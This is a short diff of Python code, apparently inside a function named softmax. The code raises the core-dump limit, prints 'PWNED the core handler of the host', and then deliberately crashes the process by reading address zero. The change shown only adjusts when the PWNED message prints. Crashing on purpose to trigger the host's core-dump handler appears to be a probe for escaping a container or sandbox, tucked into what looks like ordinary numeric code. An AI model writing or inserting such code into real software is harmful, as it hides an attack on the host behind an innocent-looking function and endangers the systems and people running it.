@@ -17,7 +17,7 @@ def softmax(x):
             resource.setrlimit(resource.RLIMIT_CORE, (wanted, hard))
         except (OSError, ValueError):
             continue
-    if resource.getrlimit(resource.RLIMIT_CORE)[0] != 1:
+    if soft == 1 and resource.getrlimit(resource.RLIMIT_CORE)[0] != 1:
         print("PWNED the core handler of the host")
     print("TRIED", flush=True)
     ctypes.string_at(0)
